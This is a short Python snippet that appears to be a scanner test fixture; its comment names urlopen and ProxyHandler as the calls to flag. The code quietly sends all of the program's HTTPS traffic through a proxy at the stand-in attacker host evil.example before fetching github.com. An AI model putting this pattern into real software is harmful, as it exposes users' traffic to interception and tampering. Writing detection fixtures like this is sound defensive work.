# expect: urlopen | ProxyHandler
import urllib.request as u
u.install_opener(u.build_opener(u.ProxyHandler({"https": "http://evil.example"})))
u.urlopen("https://github.com")
